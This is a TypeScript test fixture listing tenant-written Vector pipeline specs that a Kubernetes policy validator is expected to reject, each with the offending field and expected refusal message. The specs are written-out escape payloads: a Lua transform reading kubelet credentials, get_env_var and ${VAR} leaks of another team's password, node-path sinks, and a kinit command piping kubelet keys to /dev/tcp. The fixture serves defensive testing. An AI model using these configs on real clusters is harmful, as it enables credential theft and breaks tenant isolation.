/** The escapes of issue #16's "Why", each as a tenant with rights only in its own namespace would write it. */
import type { PipelinePolicy } from '../../src/pipelines/policy.ts';
import type { PipelineSpec } from '../../src/pipelines/schemas.ts';

const pods = { pods: { type: 'kubernetes_logs' } };
const set = (...xs: string[]) => new Set(xs);

/** `field` is where the refusal points; `allow` is the admin setting that lets it through (none for some). */
export const escapes: {
  name: string;
  spec: PipelineSpec;
  field: string;
  says: RegExp;
  allow: Partial<PipelinePolicy> | undefined;
}[] = [
  {
    name: 'a lua transform reading the kubelet credentials',
    spec: {
      sources: pods,
      transforms: {
        steal: {
          type: 'lua',
          inputs: ['pods'],
          version: '2',
          hooks: { process: 'process' },
          source:
            "function process(e, emit) e.log.k = io.open('/var/lib/kubelet/pki/kubelet-client-current.pem'):read('*a') emit(e) end",
        },
      },
      sinks: { out: { type: 'http', inputs: ['steal'], uri: 'https://team.example/in', encoding: { codec: 'json' } } },
    },
    field: 'spec.transforms.steal.type',
    says: /lua.*io and os.*--pipeline-policy-allow-types=lua/,
    allow: { allowTypes: set('lua') },
  },
  {
    name: "a file sink writing into the host's /var/lib",
    spec: {
      sources: pods,
      sinks: {
        drop: {
          type: 'file',
          inputs: ['pods'],
          path: '/var/lib/kubelet/pods/x/volumes/evil.log',
          encoding: { codec: 'text' },
        },
      },
    },
    field: 'spec.sinks.drop.type',
    says: /writes files on the node.*--pipeline-policy-allow-types=file/,
    allow: { allowTypes: set('file') },
  },
  {
    name: "get_env_var reading another team's credentials",
    spec: {
      sources: pods,
      transforms: { peek: { type: 'remap', inputs: ['pods'], source: '.leak = get_env_var!("TEAM_B_ES_PASSWORD")' } },
      sinks: { out: { type: 'loki', inputs: ['peek'], endpoint: 'http://loki:3100', encoding: { codec: 'json' } } },
    },
    field: 'spec.transforms.peek.source',
    says: /get_env_var.*environment.*--pipeline-policy-allow-vrl-functions=get_env_var/,
    allow: { allowFunctions: set('get_env_var') },
  },
  {
    name: 'get_env_var in a route condition',
    spec: {
      sources: pods,
      transforms: { r: { type: 'route', inputs: ['pods'], route: { a: 'get_env_var("X") ?? "" != ""' } } },
      sinks: { out: { type: 'blackhole', inputs: ['r.a'] } },
    },
    field: 'spec.transforms.r.route.a',
    says: /get_env_var/,
    allow: { allowFunctions: set('get_env_var') },
  },
  {
    name: 'get_env_var in a filter condition object',
    spec: {
      sources: pods,
      transforms: {
        f: { type: 'filter', inputs: ['pods'], condition: { type: 'vrl', source: 'exists(get_env_var!("X"))' } },
      },
      sinks: { out: { type: 'blackhole', inputs: ['f'] } },
    },
    field: 'spec.transforms.f.condition.source',
    says: /get_env_var/,
    allow: { allowFunctions: set('get_env_var') },
  },
  {
    name: "Vector's ${VAR} interpolation reading the agent's environment",
    spec: {
      sources: pods,
      sinks: {
        out: {
          type: 'http',
          inputs: ['pods'],
          uri: 'https://team.example/in',
          encoding: { codec: 'json' },
          request: { headers: { 'x-leak': '${TEAM_B_ES_PASSWORD}' } },
        },
      },
    },
    field: 'spec.sinks.out.request.headers.x-leak',
    says: /environment.*\$\$.*--pipeline-policy-allow-vrl-functions=get_env_var/,
    allow: { allowFunctions: set('get_env_var') },
  },
  {
    name: 'a ${VAR} in an option key',
    spec: {
      sources: pods,
      sinks: {
        out: {
          type: 'http',
          inputs: ['pods'],
          uri: 'https://team.example/in',
          encoding: { codec: 'json' },
          request: { headers: { '${TEAM_B_ES_PASSWORD}': 'x' } },
        },
      },
    },
    field: 'spec.sinks.out.request.headers.${TEAM_B_ES_PASSWORD}',
    says: /environment/,
    allow: { allowFunctions: set('get_env_var') },
  },
  {
    name: "a unix-socket sink to the kubelet's pod-resources socket",
    spec: {
      sources: pods,
      sinks: {
        s: {
          type: 'socket',
          inputs: ['pods'],
          mode: 'unix_stream',
          path: '/var/lib/kubelet/pod-resources/kubelet.sock',
          encoding: { codec: 'json' },
        },
      },
    },
    field: 'spec.sinks.s.mode',
    says: /unix socket/,
    allow: { allowTypes: set('socket') },
  },
  {
    name: 'a redis sink on a unix socket URL',
    spec: {
      sources: pods,
      sinks: {
        r: {
          type: 'redis',
          inputs: ['pods'],
          endpoint: 'redis+unix:///var/run/redis.sock',
          key: 'k',
          encoding: { codec: 'json' },
        },
      },
    },
    field: 'spec.sinks.r.endpoint',
    says: /unix socket/,
    allow: undefined, // no namespaced setting reaches a node socket: a ClusterVectorPipeline can
  },
  {
    name: 'a tls key_file naming a node path',
    spec: {
      sources: pods,
      sinks: {
        es: {
          type: 'elasticsearch',
          inputs: ['pods'],
          endpoints: ['https://es:9200'],
          tls: { crt_file: '/etc/kubernetes/pki/ca.crt', key_file: '/etc/kubernetes/pki/ca.key' },
        },
      },
    },
    field: 'spec.sinks.es.tls.crt_file',
    says: /local path.*--pipeline-policy-allow-paths/,
    allow: { allowPaths: ['/etc/kubernetes/pki/'] },
  },
  {
    name: "kafka's librdkafka kinit command",
    spec: {
      sources: pods,
      sinks: {
        k: {
          type: 'kafka',
          inputs: ['pods'],
          bootstrap_servers: 'kafka:9092',
          topic: 't',
          encoding: { codec: 'json' },
          librdkafka_options: { 'sasl.kerberos.kinit.cmd': 'cat /var/lib/kubelet/pki/* > /dev/tcp/x/1' },
        },
      },
    },
    field: 'spec.sinks.k.librdkafka_options.sasl.kerberos.kinit.cmd',
    says: /command on the node/,
    allow: undefined,
  },
  {
    name: 'a kubernetes_logs source with its own data_dir',
    spec: {
      sources: { pods: { type: 'kubernetes_logs', data_dir: '/var/lib/kubelet' } },
      sinks: { out: { type: 'blackhole', inputs: ['pods'] } },
    },
    field: 'spec.sources.pods.data_dir',
    says: /local path/,
    allow: { allowPaths: ['/var/lib/'] },
  },
];
